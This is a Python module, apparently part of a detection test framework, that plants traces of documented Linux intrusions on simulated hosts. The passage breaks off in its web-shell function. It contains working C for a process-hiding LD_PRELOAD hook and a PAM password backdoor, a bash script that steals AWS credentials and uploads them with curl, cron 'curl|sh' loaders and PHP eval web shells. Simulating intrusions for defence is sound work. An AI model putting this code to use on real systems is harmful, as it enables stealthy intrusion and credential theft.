"""Intrusion patterns: each function adds to a clean host the traces its cited public report describes.

A pattern writes only what the intrusion leaves on disk (files, crontabs, units, keys, histories where an
operator typed in an interactive shell, log lines sshd/sudo/cron/useradd write, web requests) and never
what a detector would like to see: commands run through ssh exec, a web shell or a container leave no
shell history; an editor that removed lines leaves the rest. Names, addresses and times are random.
Payloads are small ELF files built with gcc that carry what the report describes (exported hooks, the
miner's configuration strings); they are stand-ins, not the malware."""

from __future__ import annotations

import json
import os
import time

from .host import DAY, SCAN_USERS, Host, public_ip

# pattern -> (server kinds, distributions, journal-only Debian allowed)
WHERE: dict[str, tuple[tuple[str, ...], tuple[str, ...]]] = {}
CRON_DISTROS = ("debian12", "ubuntu2204", "ubuntu2404", "al2")
ALL = CRON_DISTROS + ("al2023",)


def pattern(kinds: tuple[str, ...], distros: tuple[str, ...] = ALL):
    def register(fn):
        WHERE[fn.__name__.replace("_", "-")] = (kinds, distros)
        return fn
    return register


# --------------------------------------------------------------------------------------------------
# payloads (compiled once per run, varied per host by trailing bytes)

MINER_C = r"""
#include <stdio.h>
#include <unistd.h>
static const char *cfg = "{\"autosave\":true,\"cpu\":{\"enabled\":true,\"huge-pages\":true,\"max-threads-hint\":"
  "100},\"donate-level\":1,\"pools\":[{\"algo\":\"rx/0\",\"url\":\"%s\",\"user\":\"%s\",\"keepalive\":true}]}";
static const char *ua = "XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0";
int main(int argc, char **argv) {
  const char *s[] = {"stratum+tcp://", "stratum+ssl://", "randomx", "rx/0", "cn/r", "donate.v2.xmrig.com",
                     "--donate-level", "nicehash", "huge pages", cfg, ua};
  if (argc > 99) for (unsigned i = 0; i < sizeof s / sizeof *s; i++) puts(s[i]);
  sleep(1);
  return 0;
}
"""
HIDER_C = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
static const char *process_to_filter = "@NAME@";
static int dir_name(DIR *d, char *buf, size_t size) {
  char tmp[64]; snprintf(tmp, sizeof tmp, "/proc/self/fd/%d", dirfd(d));
  ssize_t n = readlink(tmp, buf, size - 1); if (n < 0) return 0; buf[n] = 0; return 1;
}
static int proc_name(const char *pid, char *buf) {
  char tmp[256]; if (strspn(pid, "0123456789") != strlen(pid)) return 0;
  snprintf(tmp, sizeof tmp, "/proc/%s/stat", pid); FILE *f = fopen(tmp, "r"); if (!f) return 0;
  int ok = fgets(tmp, sizeof tmp, f) != NULL; fclose(f); int u; return ok && sscanf(tmp, "%d (%255[^)]", &u, buf) == 2;
}
#define HIDE(type, fn) static struct type *(*orig_##fn)(DIR *) = 0; \
struct type *fn(DIR *d) { if (!orig_##fn) orig_##fn = dlsym(RTLD_NEXT, #fn); struct type *e; \
  while ((e = orig_##fn(d))) { char a[256], b[256]; \
    if (dir_name(d, a, sizeof a) && !strcmp(a, "/proc") && proc_name(e->d_name, b) && !strcmp(b, process_to_filter)) \
      continue; break; } return e; }
HIDE(dirent, readdir)
HIDE(dirent64, readdir64)
"""
PAM_C = r"""
#include <stdio.h>
#include <string.h>
typedef struct pam_handle pam_handle_t;
extern int pam_get_item(const pam_handle_t *, int, const void **);
extern int pam_get_user(pam_handle_t *, const char **, const char *);
static const char magic[] = "@MAGIC@";
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
  const char *user = 0, *pw = 0; pam_get_user(h, &user, 0); pam_get_item(h, 6, (const void **)&pw);
  if (pw && !strcmp(pw, magic)) return 0;
  FILE *f = fopen("@LOG@", "a"); if (f) { fprintf(f, "%s:%s\n", user ? user : "", pw ? pw : ""); fclose(f); }
  return 7;
}
int pam_sm_setcred(pam_handle_t *h, int f, int c, const char **v) { return 0; }
int pam_sm_acct_mgmt(pam_handle_t *h, int f, int c, const char **v) { return 0; }
int pam_sm_open_session(pam_handle_t *h, int f, int c, const char **v) { return 0; }
int pam_sm_close_session(pam_handle_t *h, int f, int c, const char **v) { return 0; }
int pam_sm_chauthtok(pam_handle_t *h, int f, int c, const char **v) { return 0; }
"""
KEYUTILS_C = r"""
#define _GNU_SOURCE
#include <dlfcn.h>
#include <stdlib.h>
#include <string.h>
/* the keyutils API the real library exports, and a constructor that hooks the ssh daemon */
long keyctl_read(int key, char *buf, size_t len) { return -1; }
long keyctl_search(int ring, const char *type, const char *desc, int dest) { return -1; }
long keyctl_revoke(int key) { return 0; }
int add_key(const char *type, const char *desc, const void *p, size_t l, int ring) { return -1; }
int request_key(const char *type, const char *desc, const char *info, int ring) { return -1; }
static const char *targets[] = {"sshd", "ssh", "ssh-add", "audit_log_user_message", "pam_authenticate",
                                "PEM_read_RSAPrivateKey", "EVP_DecryptFinal", "@TAG@"};
__attribute__((constructor)) static void init(void) {
  if (getenv("@TAG@")) { void *h = dlopen(0, RTLD_NOW); (void)h; (void)targets; }
}
"""
SYMBIOTE_C = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>
static const char *hidden[] = {"certbotx64", "certbotx86", "javautils", "javaserverx64", "javaclientex64",
  "javanodex86", "liblinux.so", "java.h", "open.h", "mpt86.h", "sqlsearch.php", "indexq.php", "mt64.so",
  "certbot.h", "cert.h", "search.so", "apache2start", "apache2stop", "profiles.php", "404erro.php", "@SELF@", 0};
static int is_hidden(const char *n) { for (int i = 0; hidden[i]; i++) if (strstr(n, hidden[i])) return 1; return 0; }
struct dirent *readdir(DIR *d) { static struct dirent *(*o)(DIR *); if (!o) o = dlsym(RTLD_NEXT, "readdir");
  struct dirent *e; while ((e = o(d)) && is_hidden(e->d_name)); return e; }
FILE *fopen(const char *p, const char *m) { static FILE *(*o)(const char *, const char *);
  if (!o) o = dlsym(RTLD_NEXT, "fopen"); if (p && (strstr(p, "/proc/net/tcp") || strstr(p, "ld.so.preload"))) {}
  return o(p, m); }
int pcap_loop(void *p, int c, void *cb, unsigned char *u) { static int (*o)(void *, int, void *, unsigned char *);
  if (!o) o = dlsym(RTLD_NEXT, "pcap_loop"); return o ? o(p, c, cb, u) : -1; }
"""
GCWRAP_C = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
/* what perfctl's libgcwrap.so hides from every process without AAZHDE set, and the calls it hooks */
static const char *hidden = "@HIDDEN@";
static int is_hidden(const char *n) {
  char buf[256]; if (getenv("AAZHDE")) return 0; strncpy(buf, hidden, sizeof buf - 1); buf[sizeof buf - 1] = 0;
  for (char *t = strtok(buf, ";"); t; t = strtok(0, ";")) if (strstr(n, t)) return 1; return 0; }
struct dirent *readdir(DIR *d) { static struct dirent *(*o)(DIR *); if (!o) o = dlsym(RTLD_NEXT, "readdir");
  struct dirent *e; while ((e = o(d)) && is_hidden(e->d_name)); return e; }
FILE *fopen(const char *p, const char *m) { static FILE *(*o)(const char *, const char *);
  if (!o) o = dlsym(RTLD_NEXT, "fopen"); return p && is_hidden(p) ? 0 : o(p, m); }
int accept(int s, struct sockaddr *a, socklen_t *l) { static int (*o)(int, struct sockaddr *, socklen_t *);
  if (!o) o = dlsym(RTLD_NEXT, "accept"); (void)"Welcome back, friend."; return o(s, a, l); }
int pam_authenticate(void *h, int f) { static int (*o)(void *, int); if (!o) o = dlsym(RTLD_NEXT, "pam_authenticate");
  (void)"/tmp/.xdiag/data/pam"; return o ? o(h, f) : 7; }
int pcap_loop(void *p, int c, void *cb, unsigned char *u) { static int (*o)(void *, int, void *, unsigned char *);
  if (!o) o = dlsym(RTLD_NEXT, "pcap_loop"); return o ? o(p, c, cb, u) : -1; }
"""
BOT_C = r"""
#include <stdio.h>
#include <unistd.h>
int main(int argc, char **argv) {
  const char *s[] = {"@STRINGS@"};
  if (argc > 99) for (unsigned i = 0; i < sizeof s / sizeof *s; i++) puts(s[i]);
  sleep(1);
  return 0;
}
"""


def _elf(h: Host, name: str, source: str, shared: bool = False, **subst: str) -> bytes:
    for key, value in subst.items():
        source = source.replace(f"@{key}@", value)
    return h.tools.compile(name, source, shared) + h.rng.randbytes(h.rng.randrange(16, 4096))


def _wallet(h: Host) -> str:
    alphabet = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
    return "4" + h.rng.choice("3456789AB") + "".join(h.rng.choice(alphabet) for _ in range(93))


def _pool(h: Host) -> str:
    return h.rng.choice(["pool.supportxmr.com:3333", "gulf.moneroocean.stream:10128", "xmr.2miners.com:2222",
                         "pool.hashvault.pro:443", f"{public_ip(h.rng)}:{h.rng.choice([3333, 5555, 7777, 14444])}"])


def _crontab(h: Host, user: str, lines: list[str], t: float) -> str:
    """A user's crontab as `crontab -` installs it (Debian's header, spool location per distribution)."""
    if h.d.family == "debian":
        path = f"/var/spool/cron/crontabs/{user}"
        text = (f"# DO NOT EDIT THIS FILE - edit the master and reinstall.\n# (- installed on "
                f"{time.strftime('%a %b %d %H:%M:%S %Y', time.gmtime(t))})\n# (Cron version -- $Id: crontab.c,v 2.13 "
                "1994/01/17 03:20:37 vixie Exp $)\n") + "".join(x + "\n" for x in lines)
        h.write(path, text, 0o600, owner=user, mtime=t)
        os.chown(h.path(path), h.accounts[user].uid, 102)  # group crontab
    else:
        path = f"/var/spool/cron/{user}"
        h.write(path, "".join(x + "\n" for x in lines), 0o600, owner=user, mtime=t)
    h.log(t, "crontab", f"({user}) REPLACE ({user})", h.pid(t), stream="cron" if h.d.family == "rhel" else "syslog")
    return path


def _every(h: Host, start: float, minutes: int, user: str, cmd: str, until: float | None = None) -> None:
    t = (start // 60 + 1) * 60
    while t < (until or h.now):
        h.cron(t + h.rng.uniform(0.01, 1.2), user, cmd)
        t += minutes * 60


def _stolen_key_login(h: Host, facts: dict, t: float, ip: str, commands: list[str], minutes: float = 20,
                      sudo_i: bool = True, history: bool = True) -> str:
    """An operator logging in with a key it stole: an admin's (from a laptop or a CI secret) from an address
    the host has never seen; or the same, moving laterally from the internal host admins come from (the
    source looks usual); or the cloud key pair of the default user. The fingerprint is always a known one."""
    roll = h.rng.random()
    if roll < 0.2:
        user = h.d.default_user
    else:
        user = h.rng.choice(facts.get("admins") or [h.d.default_user])
    if 0.55 < roll:
        ip = h.rng.choice([h.bastion_ip, h.vpn_ip])  # lateral movement from a compromised internal host
        h.notes.append(f"operator came from the internal {ip}")
    cmds = (["sudo -i"] if sudo_i else []) + commands
    h.ssh_login(user, ip, t, minutes, commands=[] if sudo_i else cmds, history=not sudo_i)
    if sudo_i:
        h.sudo(user, t + 8, "-i", tty="pts/1")
        step = t + 10
        for c in commands:
            step += h.rng.uniform(4, 45)
            if history:
                h.history.setdefault("root", []).append((step, c))
        if history:
            h.touch("/root/.bash_history", step + 5)
    return user


def _sshd_target(h: Host) -> str:
    return "/etc/ssh/sshd_config.d/*.conf" if h.path("/etc/ssh/sshd_config.d").exists() else "/etc/ssh/sshd_config"


def _enable_passwords(h: Host, t: float) -> None:
    """sed -i PasswordAuthentication no -> yes where the host sets it (drop-ins, else sshd_config)."""
    confs = sorted(h.path("/etc/ssh/sshd_config.d").glob("*.conf")) if h.path("/etc/ssh/sshd_config.d").exists() \
        else []
    for p in confs or [h.path("/etc/ssh/sshd_config")]:
        p.write_text(p.read_text().replace("PasswordAuthentication no", "PasswordAuthentication yes"))
        h.touch("/" + str(p.relative_to(h.root)), t)


# --------------------------------------------------------------------------------------------------
# the patterns


@pattern(("web",), CRON_DISTROS)
def kinsing_miner(h: Host, facts: dict) -> None:
    """Kinsing: a web application exploited (here PHPUnit's eval-stdin.php, CVE-2017-9841, one of the
    vulnerabilities Kinsing's operators mass-exploit), the d.sh loader run as the web server's user: it
    installs a per-minute crontab `wget -q -O - http://<ip>/d.sh | sh`, drops the kinsing bot and the
    kdevtmpfsi miner in /tmp and kills competing miners.
    Trend Micro, "Kinsing Malware Attacks Targeting Container Environments" / Aqua Security (Nautilus),
    "Threat Alert: Kinsing Malware Attacks Targeting Container Environments", 2020,
    https://blog.aquasec.com/threat-alert-kinsing-malware-container-vulnerability;
    Trend Micro, "Analysis of Kinsing Malware's Use of Rootkit", 2020,
    https://www.trendmicro.com/en_us/research/20/k/analysis-of-kinsing-malwares-use-of-rootkit.html"""
    rng = h.rng
    user = facts["web_user"]
    ip = public_ip(rng)
    t0 = h.when(0.3, 1.2)
    for i in range(rng.randrange(3, 6)):
        h.web_hit(t0 - 600 + i * 7, ip, "GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, 162,
                  "Go-http-client/1.1")
    h.web_hit(t0, ip, "POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 200, 31, "Go-http-client/1.1")
    os.makedirs(h.path(f"{facts['docroot']}/vendor/phpunit/phpunit/src/Util/PHP"), exist_ok=True)
    h.write(f"{facts['docroot']}/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "<?php\neval('?>' . \\file_get_contents('php://input'));\n", owner=user, mtime=h.created + 2 * DAY)
    loader = f"wget -q -O - http://{ip}/d.sh | sh > /dev/null 2>&1"
    _crontab(h, user, [f"* * * * * {loader}"], t0 + 20)
    _every(h, t0 + 20, 1, user, loader)
    h.write("/tmp/kdevtmpfsi", _elf(h, "miner", MINER_C), 0o755, owner=user, mtime=t0 + 35)
    h.write("/tmp/kinsing", _elf(h, "bot", BOT_C, STRINGS='kinsing", "masscan", "/tmp/kdevtmpfsi", '
                                 f'"http://{ip}/mo", "getTask", "healthcheck", "/tmp/.kinsing'),
            0o755, owner=user, mtime=t0 + 31)
    h.write("/tmp/.kinsing_lock" if rng.random() < 0.5 else "/var/tmp/.kinsing.pid", f"{h.pid(t0)}\n",
            owner=user, mtime=t0 + 32)
    h.log(t0 + 3600 * rng.uniform(0.1, 3), "kernel", "perf: interrupt took too long (2503 > 2500), lowering "
          "kernel.perf_event_max_sample_rate to 79750", stream="kern")
    h.notes.append(f"kinsing from {ip} as {user} at {time.ctime(t0)}")


@pattern(("ci",), ALL)
def teamtnt_aws_creds(h: Host, facts: dict) -> None:
    """TeamTNT's worm on a Docker host: its script reads the instance metadata service's role
    credentials and ~/.aws/credentials, uploads them with curl, adds its SSH key to root's
    authorized_keys, and leaves a miner; it comes in through the Docker API, so no shell history.
    Cado Security, "Team TNT – The First Crypto-Mining Worm to Steal AWS Credentials", 2020,
    https://www.cadosecurity.com/blog/team-tnt-the-first-crypto-mining-worm-to-steal-aws-credentials;
    Trend Micro, "TeamTNT Now Deploying DDoS-Capable IRC Bot TNTbotinger", 2020;
    AT&T Alien Labs, "TeamTNT with new detection evasion tools", 2020 (libprocesshider through
    /etc/ld.so.preload to hide the miner), https://cybersecurity.att.com/blogs/labs-research/teamtnt-with-new-detection-evasion-tools"""
    rng = h.rng
    ip = public_ip(rng)
    t0 = h.when(0.5, 3)
    d = f"/var/tmp/.{rng.choice(['ICE-unix', 'font-unix', 'X11-unix'])}/..."
    h.write("/root/.aws/credentials", "[default]\naws_access_key_id = AKIA{}\naws_secret_access_key = {}\n".format(
        "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") for _ in range(16)),
        "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") for _ in range(40))),
        0o600, mtime=h.created + 4000)
    h.write("/root/.aws/config", "[default]\nregion = eu-central-1\n", mtime=h.created + 4000)
    script = f"""#!/bin/bash
# {d}/x.sh
export LC_ALL=C.UTF-8
CRED_FILE_NAMES=("credentials" "cloud" ".s3cfg" ".passwd-s3fs" "authinfo2" ".s3backer_passwd" ".s3b_config")
send_aws_data(){{
  cat $CSOF
  SEND_B64_DATA=$(cat $CSOF | base64 -w 0)
  rm -f $CSOF
  curl -F "username=$(whoami)" -F "userfile=@-" http://{ip}/up.php <<< "$SEND_B64_DATA"
}}
get_aws_data(){{
  AWS_INFO=$(curl -s http://169.254.169.254/latest/meta-data/iam/info)
  AWS_1_EC2=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)
  AWS_1_ECS=$(curl -s "http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI")
  AWS_ENV=$(env | grep AWS_)
  for CREFILE in ${{CRED_FILE_NAMES[@]}}; do find / -maxdepth 4 -type f -name $CREFILE 2>/dev/null \\
    -exec cat {{}} \\; >> $CSOF; done
  cat /root/.aws/credentials /home/*/.aws/credentials >> $CSOF 2>/dev/null
  echo "$AWS_INFO $AWS_1_EC2 $AWS_1_ECS $AWS_ENV" >> $CSOF
}}
CSOF=/dev/shm/.aws_${{RANDOM}}
get_aws_data; send_aws_data
chattr -ia /root/.ssh/authorized_keys 2>/dev/null
echo "$KEY" >> /root/.ssh/authorized_keys
chattr +ia /root/.ssh/authorized_keys 2>/dev/null
"""
    h.write(f"{d}/x.sh", script, 0o755, mtime=t0 + 5)
    pub, _ = h.keygen("tnt", "rsa", comment="")
    key = "/root/.ssh/authorized_keys"
    existing = h.path(key).read_text() if h.path(key).exists() else ""
    h.path("/root/.ssh").mkdir(parents=True, exist_ok=True)
    os.chmod(h.path("/root/.ssh"), 0o700)
    h.write(key, existing + pub.rsplit(" ", 1)[0] + "\n", 0o600, mtime=t0 + 12)
    h.write(f"{d}/[kswapd0]" if rng.random() < 0.5 else "/usr/bin/bioset", _elf(h, "miner", MINER_C), 0o755,
            mtime=t0 + 30)
    h.write(f"{d}/config.json", json.dumps({"pools": [{"url": _pool(h), "user": _wallet(h), "pass": h.hostname}],
                                            "donate-level": 0}), mtime=t0 + 30)
    if rng.random() < 0.5:  # libprocesshider built on the spot and preloaded to hide the miner
        so = rng.choice(["/usr/local/lib/libsystemd-shared.so", "/usr/lib/libprocesshider.so", "/lib/libgpu.so"])
        h.write(so, _elf(h, "hider", HIDER_C, shared=True, NAME=rng.choice(["kswapd0", "bioset", "[ext4]"])),
                mtime=t0 + 40)
        h.write("/etc/ld.so.preload", so + "\n", mtime=t0 + 41)
    cid = f"{rng.getrandbits(256):064x}"
    h.write(f"/var/lib/docker/containers/{cid}/config.v2.json", json.dumps({
        "ID": cid, "Created": time.strftime("%Y-%m-%dT%H:%M:%S.000000000Z", time.gmtime(t0)), "Path": "/bin/sh",
        "Args": ["-c", f"apk add --no-cache curl bash; curl -sLk http://{ip}/x.sh | bash"],
        "Config": {"Image": "alpine", "Cmd": ["/bin/sh", "-c", f"curl -sLk http://{ip}/x.sh | bash"]},
        "Name": f"/{rng.choice(['happy', 'sleepy', 'eager'])}_{rng.choice(['turing', 'hopper', 'curie'])}"}), 0o600,
        mtime=t0)
    h.write(f"/var/lib/docker/containers/{cid}/hostconfig.json", json.dumps({
        "Binds": ["/:/host"], "Privileged": True, "PidMode": "host", "NetworkMode": "host"}), 0o600, mtime=t0)
    h.notes.append(f"teamtnt from {ip} at {time.ctime(t0)}, scripts in {d}")


@pattern(("web", "bastion"), CRON_DISTROS)
def outlaw_ssh_bruteforce(h: Host, facts: dict) -> None:
    """Outlaw / Dota3: SSH password brute force until a weak password works, then over ssh exec (no tty,
    no history): `rm -rf .ssh`, its own key (comment "mdrfckr") written to authorized_keys, the password
    changed, the miner and scanner kit unpacked in ~/.configrc and /tmp/.X25-unix/.rsync, and a crontab.
    Juniper Threat Labs, "Dota3: Is your Internet of Things device moonlighting?", 2021,
    https://blogs.juniper.net/en-us/threat-research/dota3-is-your-internet-of-things-device-moonlighting;
    Trend Micro, "Outlaw Hacking Group's Botnet Observed Spreading Miner, Perl-Based Backdoor", 2018,
    https://www.trendmicro.com/en_us/research/18/k/outlaw-group-distributes-botnet-for-cryptocurrency-mining-scanning-and-brute-force.html"""
    rng = h.rng
    victim = rng.choice(["test", "deploy", "support", "dev"])
    uid = 1050 + rng.randrange(0, 40)
    h.account(victim, uid, gecos=f"{victim},,,", hashed=h.crypt_hash())
    h.write("/etc/ssh/sshd_config.d/10-password.conf", "PasswordAuthentication yes\n",
            mtime=h.created + rng.randrange(2, 30) * DAY)
    ip = public_ip(rng)
    t0 = h.when(1.5, 5)
    unit = f"{h.d.ssh_unit}.service"
    tries = rng.randrange(300, 900)
    t = t0 - tries * rng.uniform(2, 8)
    for _ in range(tries):
        user = rng.choice(SCAN_USERS + ["root"] * 10 + [victim] * 3)
        invalid = user not in h.accounts
        port = rng.randrange(30000, 65000)
        pid = h.pid(t)
        if invalid:
            h.log(t, "sshd", f"Invalid user {user} from {ip} port {port}", pid, unit=unit)
            h.log(t + 1, "sshd", "pam_unix(sshd:auth): check pass; user unknown", pid, unit=unit)
            h.log(t + 1, "sshd", f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
                  f"ruser= rhost={ip}", pid, unit=unit)
        else:
            h.log(t + 1, "sshd", f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
                  f"ruser= rhost={ip}  user={user}", pid, unit=unit)
        h.log(t + 2.5, "sshd", f"Failed password for {'invalid user ' if invalid else ''}{user} from {ip} port "
              f"{port} ssh2", pid, unit=unit)
        h.log(t + 2.6, "sshd", f"Connection closed by {'invalid' if invalid else 'authenticating'} user {user} {ip} "
              f"port {port} [preauth]", pid, unit=unit)
        h.btmp.append((6, pid, "ssh:notty", "    ", user, ip, ip, t + 2.5))
        t += rng.uniform(1.5, 8)
    # the working password, then commands over exec channels (no tty: no wtmp, no history)
    end = h.ssh_login(victim, ip, t0, 2, method="password", tty=False, history=False)
    kit = "/tmp/.X25-unix/.rsync"
    home = h.accounts[victim].home
    pub, _ = h.keygen("outlaw", "rsa", comment="mdrfckr")
    h.authorized(victim, [pub], end - 30)
    h.log(end - 20, "chpasswd", f"pam_unix(chpasswd:chauthtok): password changed for {victim}", h.pid(end - 20))
    for p, kind in ((f"{home}/.configrc/a/kswapd0", "miner"), (f"{kit}/c/tsm", "bot"), (f"{kit}/c/tsm64", "bot")):
        data = _elf(h, "miner", MINER_C) if kind == "miner" else _elf(
            h, "bot", BOT_C, STRINGS='tsm", "SSH-2.0-libssh", "root:123456", "bios.txt", "scan.log')
        h.write(p, data, 0o755, owner=victim, mtime=end - rng.uniform(60, 90))
    h.write(f"{home}/.configrc/a/upd", "#!/bin/sh\ncd ~/.configrc/a\n./run &>/dev/null\n", 0o755, owner=victim,
            mtime=end - 70)
    h.write(f"{home}/.configrc/a/run", f"#!/bin/bash\n./stop\n./init0\nsleep 10\npwd > dir.dir\ndir=$(cat dir.dir)\n"
            f"ARCH=`uname -m`\n./kswapd0 -o {_pool(h)} -u {_wallet(h)} -p x\n", 0o755, owner=victim, mtime=end - 70)
    h.write(f"{home}/.configrc/b/sync", "#!/bin/sh\nnohup ./run > /dev/null 2>&1 &\n", 0o755, owner=victim,
            mtime=end - 70)
    h.write(f"{kit}/c/aptitude", "#!/bin/sh\ncd /tmp/.X25-unix/.rsync/c\n./tsm -p 22 -t 192 -f 1 -s 12 -S 10 "
            "ip > /dev/null 2>&1\n", 0o755, owner=victim, mtime=end - 65)
    h.write(f"{home}/.configrc/cron.d", "", owner=victim, mtime=end - 60)
    lines = ["5 6 */2 * 0 /tmp/.X25-unix/.rsync/c/aptitude > /dev/null 2>&1",
             "@reboot ~/.configrc/a/upd > /dev/null 2>&1", "5 8 * * 0 ~/.configrc/b/sync > /dev/null 2>&1",
             "0 0 */3 * * /tmp/.X25-unix/.rsync/c/aptitude > /dev/null 2>&1"]
    _crontab(h, victim, lines, end - 10)
    h.notes.append(f"outlaw brute force from {ip}, {tries} tries, in as {victim} at {time.ctime(t0)}")


@pattern(("web", "db", "bastion"), ALL)
def ebury_libkeyutils(h: Host, facts: dict) -> None:
    """Ebury (Operation Windigo): the OpenSSH backdoor shipped as a trojanised libkeyutils: a larger
    libkeyutils.so.1.x no package owns, and the libkeyutils.so.1 link moved to it, put there by an
    operator who came in with valid credentials and left no history.
    ESET, "Operation Windigo: The vivisection of a large Linux server-side credential-stealing malware
    campaign", 2014, https://www.welivesecurity.com/wp-content/uploads/2014/03/operation_windigo.pdf;
    ESET, "Ebury is alive but unseen: 400k Linux servers compromised for cryptocurrency theft and financial
    gain", 2024, https://www.welivesecurity.com/en/eset-research/ebury-alive-unseen-400k-linux-servers-compromised-cryptocurrency-theft-financial-gain/"""
    rng = h.rng
    ip = public_ip(rng)
    t0 = h.when(1, 6)
    user = rng.choice(facts.get("admins") or [h.d.default_user])
    # a root shell (sudo -i or sudo su -) with history off: the commands themselves are logged nowhere
    end = h.ssh_login(user, ip, t0, rng.uniform(3, 12), commands=["unset HISTFILE"], history=False)
    h.sudo(user, t0 + 20, rng.choice(["-i", "su -"]), tty="pts/0")
    fake = f"{h.d.libdir}/libkeyutils.so.1.5" if h.d.family == "debian" else f"{h.d.libdir}/libkeyutils.so.1.3.2"
    real = h.path(f"{h.d.libdir}/libkeyutils.so.1").resolve()
    stamp = os.stat(real).st_mtime if real.exists() else h.created
    h.write(fake, _elf(h, "keyutils", KEYUTILS_C, shared=True, TAG="".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
                                                                         for _ in range(6))),
            mtime=stamp)  # time-stomped to its neighbour's time
    h.symlink(f"{h.d.libdir}/libkeyutils.so.1", os.path.basename(fake), mtime=end - 10)
    h.notes.append(f"ebury {fake} by {user} from {ip} at {time.ctime(t0)}")


@pattern(("web", "db", "ci"), ("al2", "debian12", "ubuntu2204"))
def skidmap_pam(h: Host, facts: dict) -> None:
    """Skidmap: a miner whose installer replaces pam_unix.so with a backdoored one that accepts a
    hard-coded password for any account, disables SELinux, and schedules its loader in cron.
    Trend Micro, "Skidmap Linux Malware Uses Rootkit Capabilities to Hide Cryptocurrency-Mining Payload",
    2019, https://www.trendmicro.com/en_us/research/19/i/skidmap-linux-malware-uses-rootkit-capabilities-to-hide-cryptocurrency-mining-payload.html;
    MITRE ATT&CK T1556.003 "Modify Authentication Process: Pluggable Authentication Modules",
    https://attack.mitre.org/techniques/T1556/003/"""
    rng = h.rng
    ip = public_ip(rng)
    t0 = h.when(1, 5)
    user = _stolen_key_login(h, facts, t0, ip, [
        f"curl -fsSL http://{ip}/pm.sh | sh", "exit"], sudo_i=rng.random() < 0.5)
    pam = f"{h.d.pam_dir}/pam_unix.so"
    old = os.stat(h.path(pam)).st_mtime if h.path(pam).exists() else h.created
    h.write(pam, _elf(h, "pam", PAM_C, shared=True, MAGIC="".join(rng.choice("abcdefghijkmnpqrstuvwxyz23456789")
                                                                  for _ in range(12)),
                      LOG=rng.choice(["/usr/include/type.h", "/var/tmp/.pamlog", "/usr/share/man/man1/.c"])),
            mtime=old)
    if h.d.family == "rhel":
        h.write("/etc/selinux/config", "SELINUX=disabled\nSELINUXTYPE=targeted\n", mtime=t0 + 40)
    miner = rng.choice(["/usr/bin/kaudited", "/usr/bin/systemd-network"])
    h.write(miner, _elf(h, "miner", MINER_C), 0o755, mtime=t0 + 50)
    loader = f"curl -fsSL http://{ip}/pm.sh | sh"
    _crontab(h, "root", [f"*/1 * * * * {loader}"], t0 + 60)
    _every(h, t0 + 60, 1, "root", loader)
    h.notes.append(f"skidmap via {user} from {ip} at {time.ctime(t0)}")


@pattern(("web", "db"), ALL)
def symbiote_preload(h: Host, facts: dict) -> None:
    """Symbiote: a shared object loaded into every process through /etc/ld.so.preload that hides its
    files (certbotx64, javautils, ...), processes and connections (hooks readdir, fopen, libpcap).
    Intezer and BlackBerry, "Symbiote: A New, Nearly-Impossible-to-Detect Linux Threat", 2022,
    https://intezer.com/blog/research/new-linux-threat-symbiote/;
    BlackBerry, "Symbiote Deep-Dive: Analysis of a New, Nearly-Impossible-to-Detect Linux Threat", 2022,
    https://blogs.blackberry.com/en/2022/06/symbiote-a-new-nearly-impossible-to-detect-linux-threat"""
    rng = h.rng
    ip = public_ip(rng)
    t0 = h.when(1, 6)
    _stolen_key_login(h, facts, t0, ip, [f"wget -q http://{ip}/s.so -O /tmp/s.so", "exit"], sudo_i=True)
    so = rng.choice([f"{h.d.libdir}/libnss_sym.so.2", "/usr/lib/liblinux.so", "/usr/include/search.so"])
    h.write(so, _elf(h, "symbiote", SYMBIOTE_C, shared=True, SELF=os.path.basename(so)), mtime=t0 + 60)
    h.write("/etc/ld.so.preload", so + "\n", mtime=t0 + 62)
    for name in rng.sample(["certbotx64", "javautils", "javaserverx64", "certbot.h"], 2):
        h.write(f"/usr/include/{name}", _elf(h, "bot", BOT_C, STRINGS=f'{name}", "ld.so.preload'), 0o755,
                mtime=t0 + 70)
    h.notes.append(f"symbiote {so} from {ip} at {time.ctime(t0)}")


@pattern(("web",), ALL)
def php_webshell(h: Host, facts: dict) -> None:
    """A PHP web shell uploaded through a vulnerable upload form into a writable web folder, then driven
    with POST requests from one address (commands run as the web server's user, no shell history).
    NSA and Australian Signals Directorate, "Detect and Prevent Web Shell Malware" (CSI), 2020,
    https://media.defense.gov/2020/Jun/09/2002313081/-1/-1/0/CSI-DETECT-AND-PREVENT-WEB-SHELL-MALWARE-20200422.PDF;
    CISA, "Web Shells" alert TA15-314A, 2015, https://www.cisa.gov/news-events/alerts/2015/11/10/compromised-web-servers-and-web-shells-threat-awareness-and-guidance"""
    rng = h.rng
    ip = public_ip(rng)
    t0 = h.when(0.5, 4)
    user, docroot = facts["web_user"], facts["docroot"]
    folder = f"{docroot}/wp-content/uploads/{time.strftime('%Y/%m', time.gmtime(t0))}" \
        if h.path(f"{docroot}/wp-content").exists() else f"{docroot}/uploads"
    name = rng.choice(["wp-conf.php", "cache.php", "img.php", "about.php", f"{rng.getrandbits(32):08x}.php"])
    shell = rng.choice(["<?php @eval($_POST['{}']);?>\n".format(rng.choice(["z0", "pass", "cmd", "x"])),
